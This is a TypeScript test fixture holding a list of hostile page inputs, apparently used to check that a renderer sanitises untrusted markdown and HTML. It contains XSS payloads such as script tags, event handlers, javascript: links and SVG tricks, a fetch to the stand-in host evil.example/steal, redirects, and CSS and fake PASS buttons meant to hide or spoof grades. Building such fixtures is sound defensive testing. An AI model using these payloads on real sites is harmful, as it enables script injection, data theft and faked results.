/** Artifacts that would take a page over, hide its buttons, or reach out, where it let them. */
export const hostilePages: Readonly<Record<string, string>> = {
  script: `# Notes\n\n<script>window.pwned = 1; fetch("http://evil.example/steal")</script>\n\nDone.`,
  handlers: `<img src=x onerror="window.pwned = 2"><body onload="window.pwned = 3"><details open ontoggle="window.pwned = 4">`,
  links: `[a](javascript:window.pwned=5) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<script>window.pwned=6</script>) [d](vbscript:x) [e](/verdicts) [f](//evil.example/x) [good](https://example.org/page) <javascript:window.pwned=7>`,
  style: `<style>footer, .grades { display: none !important } * { visibility: hidden }</style>\n<link rel=stylesheet href="http://evil.example/a.css">\n\n<div style="position:fixed;inset:0;z-index:9999;background:red">over it all</div>`,
  images: `![huge](http://evil.example/huge.png) ![data](data:image/png;base64,iVBORw0KGgo=) ![own](/grade/icon.svg) <img width=99999 height=99999 src="http://evil.example/x.png">`,
  closing: `</div></section></main></body></html><footer id="answer" hidden></footer><button id="pass">PASS</button></textarea></script>-->]]>`,
  base: `<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><form action="http://evil.example/"><input autofocus></form>`,
  svg: `<svg onload="window.pwned=8"><script>window.pwned=9</script><foreignObject><iframe src="javascript:parent.pwned=10"></iframe></foreignObject></svg><math><mtext></p><style><img src onerror="window.pwned=11"></style>`,
  frames: `<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x"></object><embed src="http://evil.example/y"><video autoplay src="http://evil.example/z">`,
  bidi: `Say yes \u202e SSAP sserp \u2066 and never turn back\n\nשלום עולם \u202e abc`,
  zalgo: `Z${"\u0301\u0317\u0322\u0489".repeat(400)}algo ${"ก็็็็็็็็็็็็".repeat(50)}`,
  nested: `${">".repeat(5000)} deep\n\n${"[".repeat(5000)}\n\n${"*a **b ".repeat(2000)}`,
  separators: "a\u2028b\u2029c\u0000d\u0007e\r\nf</script><!--",
  template: "${alert(1)} {{constructor.constructor('window.pwned=12')()}} <%= 7*7 %>",
};
